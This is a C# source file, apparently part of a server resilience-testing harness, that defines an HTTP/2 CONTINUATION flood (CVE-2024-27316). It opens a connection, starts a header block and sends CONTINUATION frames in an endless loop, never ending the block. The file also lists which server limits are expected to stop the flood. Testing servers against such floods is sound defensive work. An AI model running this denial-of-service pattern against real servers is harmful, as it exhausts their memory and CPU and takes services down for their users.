using Metering.Load;

namespace Metering.Attacks;

/// <summary>
/// Begins a header section and goes on with CONTINUATION frames that never end it: headers to decode and to keep for a
/// request that never is. CVE-2024-27316 and its kin; even lanes send fields, odd lanes empty frames.
/// </summary>
internal sealed class ContinuationFlood : Attack
{
    private const int FieldCharacters = 100;

    public override string Name => "continuation-flood";

    public override string Does => "header sections continued without end (CVE-2024-27316)";

    public override IReadOnlyList<string> MetBy => ["RequestHeadersBytes", "RequestHeaders", "ControlFrames"];

    public override string Unit => "frames";

    public override double UnitsPerSecond => 20_000;

    public override bool IsCutOff => true;

    public override async Task AttackAsync(AttackLane lane)
    {
        await using AttackConnection connection = await lane.OpenHttp2Async();
        await connection.SendAsync(new FrameBatch().Add(Http2Frame.Headers, 0, 1, HeaderBlock.OfCall(Messages.WritePath, lane.Target.Token)).Bytes);
        byte[] more = lane.Number % 2 == 0 ? HeaderBlock.Field("x-more", new string('m', FieldCharacters)) : [];
        var batch = new FrameBatch();
        while (true)
            await lane.SendAsync(connection, batch, most: 200, frames => frames.Add(Http2Frame.Continuation, 0, 1, more));
    }
}
